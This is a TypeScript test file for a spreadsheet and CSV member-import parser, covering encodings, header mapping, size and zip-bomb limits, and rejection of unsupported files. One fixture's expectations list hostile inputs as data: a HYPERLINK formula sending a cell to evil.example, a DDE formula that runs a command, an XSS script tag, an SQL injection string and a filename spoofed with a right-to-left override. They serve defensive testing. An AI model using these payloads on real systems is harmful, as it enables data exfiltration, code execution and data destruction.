import { readFileSync } from 'node:fs';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { ImportFileError, type ImportErrorCode, type ImportErrorDetails } from './import-error';
import { decodeCsv } from './parse-csv';
import { readSpreadsheet, type ImportLimits, type Spreadsheet } from './read-file';
import { columnKeys, headerKey, isTemplateNote, templateColumns, templateRows, type ColumnKey } from './template';

const fixtures = new URL('../../../test/fixtures/imports/', import.meta.url);
const fixture = (name: string): Buffer => readFileSync(new URL(name, fixtures));
const all = [...columnKeys];

/** One expected cell: the data row (0-based among rows) and the column (a key, or a raw index). */
interface CellExpectation {
  row: number;
  key?: ColumnKey;
  raw?: number;
  value: string;
}

interface Accepted {
  file: string;
  format: 'csv' | 'xlsx';
  keys: (ColumnKey | null)[];
  rowNumbers: number[];
  unknown?: string[];
  cells?: CellExpectation[];
}

interface Refused {
  file: string;
  code: ImportErrorCode;
  details?: ImportErrorDetails;
}

const zhangsan = { row: 0, key: 'name', value: '张三' } as const;
const lisiAddress = { row: 1, key: 'address', value: '上海市浦东新区世纪大道100号' } as const;

const accepted: Accepted[] = [
  { file: 'members-utf8.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, { row: 0, key: 'departments', value: '总部/研发部' }, { row: 2, key: 'order', value: '0;5' }] },
  { file: 'members-utf8-bom.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, lisiAddress] },
  { file: 'members-gbk.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, lisiAddress, { row: 2, key: 'name', value: '王芳' }] },
  { file: 'members-gb18030-rare.csv', format: 'csv', keys: all, rowNumbers: [2, 3], cells: [{ row: 0, key: 'name', value: '𠮷野家' }, { row: 1, key: 'name', value: '王䶮' }] },
  {
    file: 'members-crlf.csv',
    format: 'csv',
    keys: all,
    rowNumbers: [2, 3, 4, 5],
    cells: [zhangsan, { row: 0, key: 'disabled', value: '否' }, { row: 3, key: 'name', value: '赵六' }, { row: 3, key: 'userid', value: 'zhaoliu' }],
  },
  { file: 'members-cr.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, lisiAddress] },
  {
    file: 'members-quoted-newlines.csv',
    format: 'csv',
    keys: all,
    rowNumbers: [2, 3],
    cells: [
      { row: 0, key: 'address', value: '北京市\n海淀区\n中关村大街1号' },
      { row: 0, key: 'departments', value: '总部,研发部' },
      { row: 0, key: 'position', value: '高级"工程师"' },
      { row: 1, key: 'name', value: '李四' },
    ],
  },
  {
    file: 'members-extra-columns.csv',
    format: 'csv',
    keys: [...all, null, null, null],
    rowNumbers: [2, 3, 4],
    unknown: ['入职日期', '备注'],
    cells: [{ row: 0, raw: 14, value: '2024-03-01' }, { row: 0, raw: 15, value: '外包' }],
  },
  { file: 'members-duplicate-rows.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, { row: 1, key: 'name', value: '张三' }] },
  { file: 'members-english-headers.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan] },
  { file: 'members-annotated-headers.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan] },
  { file: 'members-tab.tsv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, { row: 2, key: 'departments', value: '总部;总部/研发部' }] },
  { file: 'members-utf16le.txt', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, lisiAddress] },
  { file: 'members-utf16be.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, lisiAddress] },
  { file: 'members-semicolon.csv', format: 'csv', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, { row: 2, key: 'isLeader', value: '否;是' }] },
  { file: 'members-blank-rows.csv', format: 'csv', keys: all, rowNumbers: [4, 7], cells: [zhangsan, { row: 1, key: 'name', value: '李四' }] },
  { file: 'one-row.csv', format: 'csv', keys: all, rowNumbers: [2], cells: [zhangsan, { row: 0, key: 'mobile', value: '13800000000' }] },
  { file: 'header-only.csv', format: 'csv', keys: all, rowNumbers: [] },
  {
    file: 'members-hostile.csv',
    format: 'csv',
    keys: all,
    rowNumbers: [2, 3, 4],
    cells: [
      { row: 0, key: 'name', value: '=HYPERLINK("http://evil.example/?q="&A1,"点我")' },
      { row: 0, key: 'position', value: "=cmd|' /C calc'!A0" },
      { row: 0, key: 'mobile', value: '+13800000000' },
      { row: 1, key: 'name', value: '\u202Egnp.exe' },
      { row: 1, key: 'position', value: '👨‍👩‍👧‍👦 家庭' },
      { row: 1, key: 'alias', value: '<script>alert(1)</script>' },
      { row: 1, key: 'address', value: "Robert'); DROP TABLE members;--" },
      { row: 2, key: 'name', value: '长'.repeat(10_000) },
      { row: 2, key: 'position', value: '\u200b零宽' },
    ],
  },
  { file: 'members.xlsx', format: 'xlsx', keys: all, rowNumbers: [2, 3, 4], cells: [zhangsan, lisiAddress, { row: 0, key: 'mobile', value: '13800000000' }] },
  {
    file: 'members-numbers.xlsx',
    format: 'xlsx',
    keys: ['name', 'userid', 'mobile', 'departments', 'order', null, null, 'disabled', null],
    rowNumbers: [2, 3],
    unknown: ['入职日期', '工号', '绩效'],
    cells: [
      { row: 0, key: 'mobile', value: '13800000000' },
      { row: 0, key: 'order', value: '10' },
      { row: 0, raw: 5, value: '2024-03-01' },
      { row: 0, raw: 6, value: '000123' },
      { row: 0, key: 'disabled', value: 'FALSE' },
      { row: 0, raw: 8, value: '0.3' },
      { row: 1, key: 'mobile', value: '13900000001' },
      { row: 1, raw: 5, value: '2023-12-31' },
      { row: 1, key: 'disabled', value: 'TRUE' },
    ],
  },
  {
    file: 'members-richtext.xlsx',
    format: 'xlsx',
    keys: all,
    rowNumbers: [2],
    cells: [zhangsan, { row: 0, key: 'email', value: 'zhangsan@example.com' }, { row: 0, key: 'alias', value: '#N/A' }, { row: 0, key: 'disabled', value: 'TRUE' }],
  },
  {
    file: 'members-merged-header.xlsx',
    format: 'xlsx',
    keys: all,
    rowNumbers: [3, 4],
    cells: [zhangsan, { row: 0, key: 'departments', value: '总部/研发部' }, { row: 1, key: 'departments', value: '' }, { row: 1, key: 'name', value: '李四' }],
  },
  {
    file: 'members-handmade.xlsx',
    format: 'xlsx',
    keys: ['name', 'userid', 'mobile', 'email', 'departments', null, null, 'isLeader', 'disabled'],
    rowNumbers: [2, 3],
    unknown: ['入职日期', '工号'],
    cells: [
      { row: 0, key: 'name', value: '王五' },
      { row: 0, key: 'mobile', value: '13900000000' },
      { row: 0, key: 'email', value: 'wangwu@example.com' },
      { row: 0, key: 'departments', value: '2' },
      { row: 0, raw: 5, value: '2024-01-01' },
      { row: 0, raw: 6, value: '000123' },
      { row: 0, key: 'isLeader', value: 'FALSE' },
      { row: 1, key: 'email', value: '' },
      { row: 1, key: 'departments', value: '1;2' },
      { row: 1, raw: 5, value: '2024-03-15 12:00:00' },
      { row: 1, key: 'disabled', value: '#N/A' },
    ],
  },
];

const refused: Refused[] = [
  { file: 'empty.csv', code: 'imports.empty_file' },
  { file: 'bom-only.csv', code: 'imports.empty_file' },
  { file: 'members-missing-columns.csv', code: 'imports.missing_header', details: { columns: ['userid'], titles: ['帐号'], row: 1 } },
  { file: 'members-title-row.xlsx', code: 'imports.missing_header', details: { columns: ['name', 'userid', 'departments'], row: 1 } },
  { file: 'members-duplicate-header.csv', code: 'imports.duplicate_header', details: { key: 'mobile', columns: ['手机', '手机号'], row: 1 } },
  { file: 'members-unclosed-quote.csv', code: 'imports.corrupt_file', details: { reason: 'unclosed_quote', row: 3 } },
  { file: 'members-nul-tail.csv', code: 'imports.corrupt_file', details: { reason: 'nul_character' } },
  { file: 'members-bom-gbk.csv', code: 'imports.encoding_unreadable', details: { encoding: 'UTF-8' } },
  { file: 'garbage-encoding.csv', code: 'imports.encoding_unreadable' },
  { file: 'members-formula.xlsx', code: 'imports.formula_found', details: { cell: 'C3', row: 3 } },
  { file: 'members-xls-legacy.xls', code: 'imports.unsupported_type', details: { detected: 'xls' } },
  { file: 'members-password.xlsx', code: 'imports.unsupported_type', details: { detected: 'encrypted_xlsx' } },
  { file: 'members-html.xls', code: 'imports.unsupported_type', details: { detected: 'html' } },
  { file: 'members.ods', code: 'imports.unsupported_type', details: { detected: 'ods' } },
  { file: 'image.csv', code: 'imports.unsupported_type', details: { detected: 'png' } },
  { file: 'binary.csv', code: 'imports.unsupported_type', details: { detected: 'binary' } },
  { file: 'not-a-zip.xlsx', code: 'imports.corrupt_file', details: { reason: 'not_a_zip' } },
  { file: 'truncated.xlsx', code: 'imports.corrupt_file', details: { reason: 'not_a_zip' } },
  { file: 'zip-bomb.xlsx', code: 'imports.inflated_too_large', details: { reason: 'ratio', limit: 200, entry: 'xl/worksheets/sheet1.xml' } },
  { file: 'zip-bomb-lying.xlsx', code: 'imports.corrupt_file', details: { reason: 'bad_entry', entry: 'xl/worksheets/sheet1.xml' } },
];

async function refusal(promise: Promise<unknown>): Promise<ImportFileError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  if (!(error instanceof ImportFileError)) throw new Error(`expected an ImportFileError, got ${String(error)}`);
  return error;
}

function cell(sheet: Spreadsheet, expected: CellExpectation): string | undefined {
  const row = sheet.rows[expected.row];
  return expected.key ? row?.cells[expected.key] : row?.raw[expected.raw ?? -1];
}

describe('readSpreadsheet over the fixture corpus', () => {
  it.each(accepted)('reads $file', async ({ file, format, keys, rowNumbers, unknown, cells }) => {
    const sheet = await readSpreadsheet(fixture(file), file);
    expect(sheet.format).toBe(format);
    expect(sheet.headers.map((h) => h.key)).toEqual(keys);
    expect(sheet.rows.map((r) => r.rowNumber)).toEqual(rowNumbers);
    expect(sheet.unknownColumns).toEqual(unknown ?? []);
    for (const expected of cells ?? []) expect(cell(sheet, expected), JSON.stringify(expected).slice(0, 80)).toBe(expected.value);
    for (const row of sheet.rows) expect(row.raw.length).toBeGreaterThanOrEqual(sheet.headers.length);
  });

  it.each(refused)('refuses $file with $code', async ({ file, code, details }) => {
    const error = await refusal(readSpreadsheet(fixture(file), file));
    expect(error.code).toBe(code);
    if (details) expect(error.details).toMatchObject(details);
  });

  it('gives every mapped column of a row, blank ones as empty strings', async () => {
    const sheet = await readSpreadsheet(fixture('members-utf8.csv'), 'members-utf8.csv');
    expect(Object.keys(sheet.rows[1]!.cells).sort()).toEqual([...columnKeys].sort());
    expect(sheet.rows[1]!.cells.alias).toBe('');
  });

  it('goes by the bytes, not the name: a zip named .csv is read as XLSX', async () => {
    const sheet = await readSpreadsheet(fixture('members.xlsx'), '成员.CSV');
    expect(sheet.format).toBe('xlsx');
    expect(sheet.rows).toHaveLength(3);
  });

  it('refuses text with an unknown extension', async () => {
    const error = await refusal(readSpreadsheet(fixture('members-utf8.csv'), 'members'));
    expect(error).toMatchObject({ code: 'imports.unsupported_type', details: { detected: 'unknown', extension: '' } });
  });
});

describe('limits', () => {
  const limits = (overrides: Partial<ImportLimits>): ImportLimits => ({ maxBytes: 1024 * 1024, maxRows: 1000, ...overrides });

  it('refuses a file over maxBytes before parsing it', async () => {
    const bytes = fixture('members-utf8.csv');
    const error = await refusal(readSpreadsheet(bytes, 'members-utf8.csv', limits({ maxBytes: 100 })));
    expect(error).toMatchObject({ code: 'imports.file_too_large', details: { limit: 100, actual: bytes.length } });
    const bomb = await refusal(readSpreadsheet(fixture('zip-bomb.xlsx'), 'zip-bomb.xlsx', limits({ maxBytes: 100 })));
    expect(bomb.code).toBe('imports.file_too_large');
  });

  it('accepts exactly maxRows data rows and refuses one more, at the row that is one too many', async () => {
    for (const file of ['members-utf8.csv', 'members.xlsx']) {
      await expect(readSpreadsheet(fixture(file), file, limits({ maxRows: 3 }))).resolves.toMatchObject({ rows: { length: 3 } });
      const error = await refusal(readSpreadsheet(fixture(file), file, limits({ maxRows: 2 })));
      expect(error).toMatchObject({ code: 'imports.too_many_rows', details: { limit: 2, row: 4 } });
    }
  });

  it('does not count blank rows against maxRows', async () => {
    await expect(readSpreadsheet(fixture('members-blank-rows.csv'), 'members-blank-rows.csv', limits({ maxRows: 2 }))).resolves.toMatchObject({ rows: { length: 2 } });
  });

  it('stops reading a long CSV at the first row over the limit', async () => {
    const [header = []] = templateRows();
    const body = Array.from({ length: 100_000 }, (_, i) => `员工${i},user${i},,,总部,,,,,,,,`).join('\n');
    const bytes = Buffer.from(`${header.join(',')}\n${body}\n`);
    const error = await refusal(readSpreadsheet(bytes, 'big.csv', limits({ maxBytes: 10 * 1024 * 1024, maxRows: 10 })));
    expect(error).toMatchObject({ code: 'imports.too_many_rows', details: { limit: 10, row: 12 } });
  });

  it('refuses an XLSX whose parts inflate past maxInflatedBytes', async () => {
    const error = await refusal(readSpreadsheet(fixture('members.xlsx'), 'members.xlsx', limits({ maxInflatedBytes: 1000 })));
    expect(error).toMatchObject({ code: 'imports.inflated_too_large', details: { reason: 'total', limit: 1000 } });
  });
});

describe('decodeCsv', () => {
  it.each([
    ['members-utf8.csv', 'UTF-8'],
    ['members-utf8-bom.csv', 'UTF-8'],
    ['members-gbk.csv', 'GB18030'],
    ['members-gb18030-rare.csv', 'GB18030'],
    ['members-utf16le.txt', 'UTF-16LE'],
    ['members-utf16be.csv', 'UTF-16BE'],
  ])('detects %s as %s, without a BOM in the text', (file, encoding) => {
    const decoded = decodeCsv(fixture(file));
    expect(decoded.encoding).toBe(encoding);
    expect(decoded.text.startsWith('姓名') || decoded.text.startsWith('帐号')).toBe(true);
  });

  it('detects Big5 when chardet is sure of it', () => {
    const text = '姓名,帳號,手機號,郵箱,所在部門\n' + Array.from({ length: 20 }, (_, i) => `陳大文${i},chan${i},9123456${i},,總公司/資訊部`).join('\n');
    expect(decodeCsv(iconv.encode(text, 'big5'))).toEqual({ text, encoding: 'Big5' });
  });
});

describe('headerKey', () => {
  it.each([
    ['姓名', 'name'],
    ['帐号', 'userid'],
    ['账号', 'userid'],
    ['帳號', 'userid'],
    ['账号(英文ID)', 'userid'],
    ['UserID', 'userid'],
    [' user_id ', 'userid'],
    ['USER ID', 'userid'],
    ['Account', 'userid'],
    ['手机', 'mobile'],
    ['手机号码', 'mobile'],
    ['手机号（必填）', 'mobile'],
    ['ＥＭＡＩＬ', 'email'],
    ['E-mail', 'email'],
    ['部门', 'departments'],
    ['Departments', 'departments'],
    ['所在部门', 'departments'],
    ['*姓名', 'name'],
    ['【必填】姓名', 'name'],
    ['姓\u200b名', 'name'],
    ['职务', 'position'],
    ['Sex', 'gender'],
    ['is_leader', 'isLeader'],
    ['是否部门内领导', 'isLeader'],
    ['排序', 'order'],
    ['英文名', 'alias'],
    ['座机', 'telephone'],
    ['是否禁用', 'disabled'],
  ] as const)('maps %j to %s', (text, key) => {
    expect(headerKey(text)).toBe(key);
  });

  it.each(['', '电话', 'phone', 'enable', '启用', '入职日期', '备注', '企业邮箱', '直属上级', '禁用项说明：(0-启用;1-禁用)'])('maps %j to nothing', (text) => {
    expect(headerKey(text)).toBeNull();
  });

  it('maps every header and alias of the template to its own column', () => {
    for (const column of templateColumns) for (const text of [column.header, ...column.aliases]) expect(headerKey(text), text).toBe(column.key);
  });

  it('knows the explanation column of WeCom\'s template', () => {
    expect(isTemplateNote('禁用项说明：(0-启用;1-禁用)')).toBe(true);
    expect(isTemplateNote('禁用')).toBe(false);
  });
});

describe('templateRows', () => {
  it('is a header row naming every column in order, and one example member', () => {
    const [header = [], example = []] = templateRows();
    expect(header.map(headerKey)).toEqual([...columnKeys]);
    expect(header.slice(0, 5)).toEqual(['姓名', '帐号', '手机号', '邮箱', '所在部门']);
    expect(example).toHaveLength(header.length);
    expect(example.slice(0, 5)).toEqual(['张三', 'zhangsan', '13800000000', 'zhangsan@example.com', '总部/研发部']);
  });
});
